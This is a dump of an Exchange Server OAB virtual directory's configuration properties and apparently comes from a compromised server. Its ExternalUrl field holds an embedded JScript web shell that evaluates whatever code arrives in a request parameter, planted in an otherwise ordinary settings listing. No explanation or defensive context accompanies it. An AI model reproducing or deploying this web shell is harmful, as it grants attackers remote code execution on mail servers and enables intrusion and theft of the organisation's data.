
Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EX01.corp.example.net/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
ExtendedProtectionSPNList       : 
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EX01
InternalUrl                     : https://ex01.corp.example.net/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["Bh7xYm"],"unsafe");}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example,DC=net
Identity                        : EX01\OAB (Default Web Site)
Guid                            : 5d2c1a3e-9b8f-4e71-a0c6-3f1d7e9b2a44
ObjectCategory                  : corp.example.net/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top msExchVirtualDirectory msExchOABVirtualDirectory
WhenChanged                     : 3/3/2021 6:47:25 AM
WhenCreated                     : 9/14/2020 10:02:51 AM
WhenChangedUTC                  : 3/3/2021 6:47:25 AM
WhenCreatedUTC                  : 9/14/2020 10:02:51 AM
OrganizationId                  : 
Id                              : EX01\OAB (Default Web Site)
OriginatingServer               : DC01.corp.example.net
IsValid                         : True
ObjectState                     : Changed

